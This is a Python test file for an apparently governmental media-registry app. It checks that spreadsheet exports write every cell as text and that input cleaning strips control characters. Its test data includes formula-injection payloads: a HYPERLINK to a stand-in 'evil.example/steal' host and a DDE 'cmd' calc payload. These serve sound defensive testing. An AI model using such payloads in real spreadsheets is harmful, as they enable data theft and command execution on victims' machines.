"""Issue 12 item 4, spreadsheet injection and broken exports: control characters are cleaned at
input by every service (core.text.clean_text), and every exported cell is text, so a name that
begins with "=" never becomes a live formula and no name can make a download answer 500."""

from io import BytesIO

import pytest
from openpyxl import load_workbook

from govmedia.core.errors import ServiceError
from govmedia.core.text import clean_text
from govmedia.orgs import services as org_services
from govmedia.orgs.models import Organization, OrgType
from govmedia.registry.models import Filing, MediaAccount
from govmedia.users import services as user_services
from govmedia.users.models import User
from tests.conftest import logged_in_client
from tests.registry.filing_steps import file_account

FORMULA = '=HYPERLINK("http://evil.example/steal","点击查看")'
CONTROLS = "\x07\x1b\x0b\x00"


def all_cells(response):
    assert response.status_code == 200, response.status_code
    workbook = load_workbook(BytesIO(response.content))  # not read-only: data_type is kept
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_spreadsheet_injection_and_broken_exports(world, form_data):
    # Names with control characters and a formula, entered through the services.
    org = org_services.org_create(
        actor=world.alice,
        name=f"{FORMULA}{CONTROLS}",
        org_type=OrgType.SUBORDINATE,
        parent=world.tian,
        address=f"天中路{CONTROLS}1号",
    )
    assert org.name == FORMULA and org.address == "天中路1号"
    user, _ = user_services.user_create(
        actor=world.alice,
        username="hostile",
        name=f"=1+1{CONTROLS}",
        org=world.tian,
        role="editor",
    )
    assert user.name == "=1+1"
    account = file_account(
        world,
        form_data,
        org=org,
        name=f"{FORMULA}\x07",
        contact_name="=cmd|' /C calc'!A0",
        notes="第一行\n第二行\x0c",
    )
    assert account.name == FORMULA and account.notes == "第一行\n第二行"
    # A row written before this fix (or by a script): exports must survive it too.
    Organization.objects.filter(pk=world.tian_office.pk).update(address="旧数据\x01\x02")
    User.objects.filter(pk=user.pk).update(email="a\x1fb@example.cn")
    MediaAccount.objects.filter(pk=account.pk).update(registrant="注册\x08主体")
    Filing.objects.filter(account=account).update(operator="运维\x03机构")

    admin = logged_in_client(world.alice)
    for url in (
        "/users/export.xlsx",
        "/orgs/export.xlsx",
        "/registry/excel/accounts.xlsx",
        "/registry/excel/filings.xlsx",
        "/registry/excel/template.xlsx",
    ):
        cells = all_cells(admin.get(url))
        assert not [c.coordinate for c in cells if c.data_type == "f"], url
        values = [c.value for c in cells if isinstance(c.value, str)]
        hostile = "=1+1" if url.startswith("/users") else FORMULA
        assert hostile in values, url  # written, as text
    assert "旧数据" in [c.value for c in all_cells(admin.get("/orgs/export.xlsx"))]


@pytest.mark.parametrize(
    "raw, multiline, expected",
    [
        ("a\x00b\x1fc\x7fd", True, "abcd"),
        (" 第一行\r\n第二行\t完 ", True, "第一行\n第二行\t完"),
        ("名称\n换行\t制表", False, "名称 换行 制表"),
    ],
)
def test_clean_text_drops_control_characters(raw, multiline, expected):
    assert clean_text(raw, field="f", label="内容", multiline=multiline) == expected


def test_clean_text_refuses_a_lone_surrogate():
    with pytest.raises(ServiceError) as caught:
        clean_text("天中\ud800", field="name", label="名称")
    assert caught.value.field == "name" and "无效字符" in caught.value.message
